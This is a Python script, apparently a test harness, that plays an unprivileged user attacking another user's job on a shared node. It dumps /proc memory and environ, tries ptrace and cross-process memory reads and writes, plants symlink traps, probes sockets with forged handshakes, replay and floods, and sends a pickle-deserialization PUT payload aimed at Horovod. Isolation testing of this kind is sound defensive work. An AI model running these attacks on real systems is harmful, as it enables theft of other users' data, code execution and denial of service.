# SPDX-License-Identifier: Apache-2.0
"""Plays a user without rights on a node of another user's job: tries to read, change or stop it.

usage: attacker.py LOOT UID plant NAME...       makes links NAME to LOOT.trap
       attacker.py LOOT UID once [PORT]         tries everything on the processes of UID
       attacker.py LOOT UID until FILE [PORT]   attacks ports and sockets until FILE exists
       attacker.py LOOT UID flood PORT COUNT    opens COUNT connections that send nothing

Prints a line for each attempt: its kind, its target, and the result, which is "GOT ..." if something was open.
All data that it could read go to LOOT. Without PORT it attacks all ports on which UID listens."""

import base64
import contextlib
import ctypes
import errno
import os
import pickle
import random
import resource
import select
import signal
import socket
import struct
import sys
import time

LIBC = ctypes.CDLL(None, use_errno=True)
PTRACE_SEIZE, SYS_PIDFD_OPEN, SYS_PIDFD_GETFD = 0x4206, 434, 438
IPC_RDONLY = 0o10000
UCX_MAGIC = struct.pack('<Q', 0xcafebabe12345678)
RANKS = 4 # of the job
HELLO, PROOF = 0x40000000, 0x40000002 # how ranks connect: collectives/transport/connect
PROOF_BYTES = 32
PADDING = 4  # behind the proof in a challenge
PUBLIC = ('cmdline', 'status', 'stat', 'comm', 'limits', 'cgroup', 'sched', 'wchan')
PRIVATE = ('environ', 'mem', 'maps', 'smaps', 'auxv', 'syscall', 'stack', 'io', 'pagemap', 'personality')
PLACES = ('/dev/shm', '/dev/mqueue', '/tmp', '/var/tmp', '/run', '/run/lock')
MOST_BYTES = 1 << 20 # read from one file or mapping
MOST_FDS = 64
ANSWER_S = 0.3 # how long to listen
CONNECT_S = 0.5 # an open port accepts at once
HELD = 1000 # connections of a flood at a time

loot = None


def tell(kind, what, outcome):
    print(f'{kind} {what}: {outcome}', flush=True)


def attempt(kind, what, function):
    """Prints what the function got; an empty result or an error means that it was denied."""
    try:
        got = function()
    except OSError as error:
        tell(kind, what, errno.errorcode.get(error.errno, str(error)))
        return
    tell(kind, what, f'GOT {got}' if got else 'nothing')


def keep(data):
    loot.write(data)
    loot.flush()
    return f'{len(data)} bytes' if data else ''


def call(function, *arguments):
    ctypes.set_errno(0)
    result = function(*arguments)
    if result < 0:
        raise OSError(ctypes.get_errno(), function.__name__)
    return result


# --- processes ---

def processes(uid):
    for name in filter(str.isdigit, os.listdir('/proc')):
        try:
            with open(f'/proc/{name}/status', encoding='ascii', errors='replace') as status:
                owned = any(line.split()[1] == str(uid) for line in status if line.startswith('Uid:'))
                if owned and int(name) != os.getpid():
                    yield int(name)
        except OSError:
            pass # it has ended


def read_file(path):
    with open(path, 'rb') as file:
        return keep(file.read(MOST_BYTES))


def writable_mappings(pid):
    with open(f'/proc/{pid}/maps', encoding='ascii') as maps:
        for line in maps:
            span, mode = line.split()[:2]
            if mode.startswith('rw') and '[v' not in line:
                first, last = (int(end, 16) for end in span.split('-'))
                yield first, min(last - first, MOST_BYTES)


def read_memory(pid):
    with open(f'/proc/{pid}/mem', 'rb', buffering=0) as memory:
        for first, count in writable_mappings(pid):
            memory.seek(first)
            keep(memory.read(count))
    return 'memory'


class Vector(ctypes.Structure):
    _fields_ = [('base', ctypes.c_void_p), ('bytes', ctypes.c_size_t)]


def copy_memory(function, pid):
    """Copies memory. The kernel checks rights before the address, so without rights any address gives the same error."""
    data = ctypes.create_string_buffer(64)
    try:
        first = next(writable_mappings(pid))[0]
    except (OSError, StopIteration):
        first = 0x400000
    here, there = (Vector(ctypes.addressof(data), 8), Vector(first, 8))
    return call(function, pid, ctypes.byref(here), 1, ctypes.byref(there), 1, 0)


def take_descriptor(pid):
    pidfd = call(LIBC.syscall, SYS_PIDFD_OPEN, pid, 0)
    try:
        return f'descriptor {call(LIBC.syscall, SYS_PIDFD_GETFD, pidfd, 1, 0)}'
    finally:
        os.close(pidfd)


def open_descriptors(pid):
    names = []
    refusal = None
    for number in range(MOST_FDS):
        try:
            os.close(os.open(f'/proc/{pid}/fd/{number}', os.O_RDONLY | os.O_NONBLOCK))
            names.append(os.readlink(f'/proc/{pid}/fd/{number}'))
        except OSError as error:
            if error.errno not in (errno.ENOENT, errno.ENXIO): # no such number; a socket
                refusal = error
    if refusal and not names:
        raise refusal
    return ' '.join(names)


def stop(pid):
    os.kill(pid, signal.SIGSTOP)
    os.kill(pid, signal.SIGCONT)
    return 'it stopped'


def change_limit(pid):
    resource.prlimit(pid, resource.RLIMIT_NOFILE, resource.prlimit(pid, resource.RLIMIT_NOFILE))
    return 'its limits'


def move(pid):
    os.sched_setaffinity(pid, os.sched_getaffinity(0))
    return 'its processors'


def attack_process(pid):
    for name in PUBLIC:
        try:
            read_file(f'/proc/{pid}/{name}')
        except OSError:
            pass
    for name in PRIVATE:
        function = (lambda: read_memory(pid)) if name == 'mem' else \
            (lambda name=name: read_file(f'/proc/{pid}/{name}'))
        attempt('process', f'{pid} {name}', function)
    for name in ('exe', 'cwd', 'root'):
        attempt('process', f'{pid} {name}', lambda name=name: os.readlink(f'/proc/{pid}/{name}'))
    attempt('process', f'{pid} map_files', lambda: len(os.listdir(f'/proc/{pid}/map_files')))
    attempt('process', f'{pid} fd', lambda: open_descriptors(pid))
    attempt('process', f'{pid} ptrace', lambda: call(LIBC.ptrace, PTRACE_SEIZE, pid, None, None) == 0)
    attempt('process', f'{pid} process_vm_readv', lambda: copy_memory(LIBC.process_vm_readv, pid))
    attempt('process', f'{pid} pidfd_getfd', lambda: take_descriptor(pid))
    attempt('control', f'{pid} process_vm_writev', lambda: copy_memory(LIBC.process_vm_writev, pid))
    attempt('control', f'{pid} SIGSTOP', lambda: stop(pid))
    attempt('control', f'{pid} prlimit', lambda: change_limit(pid))
    attempt('control', f'{pid} sched_setaffinity', lambda: move(pid))


# --- files and memory with a name ---

def open_to_write(path):
    os.close(os.open(path, os.O_WRONLY | os.O_NONBLOCK | os.O_NOFOLLOW))
    return 'a file to write to'


def attack_files(uid):
    for place in PLACES:
        names = os.listdir(place) if os.path.isdir(place) else []
        for path in (os.path.join(place, name) for name in names):
            if not os.path.lexists(path) or os.lstat(path).st_uid != uid:
                continue
            if os.path.isdir(path):
                attempt('file', path, lambda path=path: ' '.join(os.listdir(path)))
                continue
            attempt('file', f'{path} read', lambda path=path: read_file(path))
            attempt('file', f'{path} write', lambda path=path: open_to_write(path))


def attach(identifier):
    LIBC.shmat.restype = ctypes.c_ssize_t
    return keep(ctypes.string_at(call(LIBC.shmat, identifier, None, IPC_RDONLY), 4096))


def attack_shared_memory(uid):
    with open('/proc/sysvipc/shm', encoding='ascii') as table:
        for line in list(table)[1:]:
            if line.split()[7] == str(uid):
                identifier = int(line.split()[1])
                attempt('file', f'shared memory {identifier}', lambda: attach(identifier))


def plant(trap, names):
    for name in names:
        attempt('link', name, lambda: os.symlink(trap, name))


# --- sockets ---

def address_of(text):
    """Decodes an address of /proc/net/tcp or tcp6."""
    host, port = text.split(':')
    data = struct.pack(f'={len(host) // 8}I', *(int(host[i:i + 8], 16) for i in range(0, len(host), 8)))
    family = socket.AF_INET if len(data) == 4 else socket.AF_INET6
    return family, socket.inet_ntop(family, data), int(port, 16)


def listening(uid, port):
    """Yields (family, address) of the listening sockets of uid, or of those on the port."""
    for name in ('tcp', 'tcp6'):
        with open(f'/proc/net/{name}', encoding='ascii') as table:
            for line in list(table)[1:]:
                local, state, owner = (line.split()[i] for i in (1, 3, 7))
                family, host, number = address_of(local)
                if state == '0A' and (number == port if port else owner == str(uid)):
                    yield family, (host, number)


def abstract_names():
    with open('/proc/net/unix', encoding='utf-8', errors='surrogateescape') as table:
        for line in list(table)[1:]:
            words = line.split()
            if len(words) > 7 and words[7].startswith('@'):
                yield int(words[4], 16), os.fsencode(words[7].replace('@', '\0'))


def hear(peer):
    """Receives data from the peer, and descriptors that come with them."""
    if not select.select([peer], [], [], ANSWER_S)[0]:
        return b''
    if peer.family != socket.AF_UNIX:
        data = peer.recv(1 << 16)
    else:
        data, fds, _, _ = socket.recv_fds(peer, 1 << 16, 8)
        for fd in fds:
            tell('socket', 'a descriptor', f'GOT {os.readlink(f"/proc/self/fd/{fd}")}')
            keep(os.pread(fd, MOST_BYTES, 0))
    keep(data)
    return data


def open_peer(family, kind, address):
    peer = socket.socket(family, kind)
    peer.settimeout(CONNECT_S)
    try:
        peer.connect(address)
    except OSError:
        peer.close()
        raise
    return peer


def say(peer, data):
    if data:
        peer.sendall(data)
    return hear(peer)


def reflect(peers):
    """Sends each peer the data of the peer before it; a single peer gets its own back."""
    heard = [hear(peer) for peer in peers]
    for _ in range(3):
        heard = [say(peer, heard[i - 1]) for i, peer in enumerate(peers)]


def frame(kind, payload):
    return struct.pack('<IIII', len(payload), kind, 0, 0) + payload


def hello(parent):
    """Makes the hello of another rank of the job."""
    return frame(HELLO, struct.pack('<IiiI', 0x33647668, (parent + 1) % RANKS, parent, 0) + bytes(32))


def forge(connect, parent, rng):
    """Tries to join with the rank's own proof and with a random one. Returns text if the rank accepts either."""
    for proof in (None, rng.randbytes(PROOF_BYTES)):
        with connect() as peer:
            challenge = say(peer, hello(parent))
            theirs = challenge[-PROOF_BYTES - PADDING:-PADDING]
            if challenge and say(peer, frame(PROOF, proof or theirs)):
                return 'a welcome'
    return ''


class Evil:
    """Executes code when it is unpickled: makes LOOT.executed."""

    def __reduce__(self):
        return os.mkdir, (f'{loot.name}.executed',)


def put(path):
    """Makes the request that attacks Horovod's servers: see tests/python/horovod_cves_check.py."""
    body = base64.b64encode(pickle.dumps(Evil()))
    return f'PUT {path} HTTP/1.1\r\nHost: n1\r\nContent-Length: {len(body)}\r\n\r\n'.encode() + body


def attack_socket(kind, what, connect, rng, recorded):
    """Tries all attacks on one socket. recorded: data from earlier connections, for replay."""
    def tries(data):
        with connect() as peer:
            recorded.append(say(peer, data))
        return f'a connection, {len(recorded[-1])} bytes'

    def reflects(count):
        with contextlib.ExitStack() as stack:
            reflect([stack.enter_context(connect()) for _ in range(count)])
        return 'a connection'

    says = {'silence': b'', 'magic': UCX_MAGIC + rng.randbytes(300), 'noise': rng.randbytes(4096),
            'long': b'\xff' * (1 << 18), 'http': put('/worker_addresses/n1:0'), 'func': put('/runfunc/func'),
            **{f'hello to {rank}': hello(rank) for rank in range(RANKS)}}
    for name, data in says.items():
        attempt(kind, f'{what} {name}', lambda data=data: tries(data))
    for rank in range(RANKS):
        attempt(kind, f'{what} forged proof for {rank}', lambda rank=rank: forge(connect, rank, rng))
    attempt(kind, f'{what} replay', lambda: tries(b''.join(recorded)[:1 << 16]))
    attempt(kind, f'{what} reflection', lambda: reflects(1))
    attempt(kind, f'{what} relay', lambda: reflects(2))


def attack_sockets(uid, port, rng):
    for family, address in sorted(set(listening(uid, port))):
        there = ('127.0.0.1' if address[0] == '0.0.0.0' else '::1' if address[0] == '::' else address[0],
                 address[1])
        attack_socket('port', f'{there[0]}:{there[1]}',
                      lambda family=family, there=there: open_peer(family, socket.SOCK_STREAM, there),
                      rng, [])
    for kind, name in sorted(set(abstract_names())):
        attack_socket('socket', name[1:].decode(errors='replace').rstrip('\0'),
                      lambda kind=kind, name=name: open_peer(socket.AF_UNIX, kind, name), rng, [])


def flood(port, count):
    """Opens count connections; holds as many as possible, and closes the oldest for a new one."""
    most = min(HELD, resource.getrlimit(resource.RLIMIT_NOFILE)[0] - 50)
    peers = []
    for _ in range(count):
        peer = socket.socket()
        peer.setblocking(False)
        peer.connect_ex(('127.0.0.1', port))
        peers.append(peer)
        if len(peers) > most:
            peers.pop(0).close()
    tell('flood', f'port {port}', f'{count} connections, {most} at a time')


def main():
    global loot
    loot_path, uid, mode, *rest = sys.argv[1], int(sys.argv[2]), *sys.argv[3:]
    seed = random.randrange(1 << 32)
    rng = random.Random(seed)
    loot = open(loot_path, 'ab')
    tell('seed', seed, mode)
    if mode == 'plant':
        plant(loot_path + '.trap', rest)
    elif mode == 'flood':
        flood(int(rest[0]), int(rest[1]))
    elif mode == 'until':
        while not os.path.exists(rest[0]):
            attack_sockets(uid, int(rest[1]) if rest[1:] else 0, rng)
            time.sleep(0.01)
    else:
        for pid in sorted(processes(uid)):
            attack_process(pid)
        attack_files(uid)
        attack_shared_memory(uid)
        attack_sockets(uid, int(rest[0]) if rest else 0, rng)
    tell('end', mode, 'done')


main()
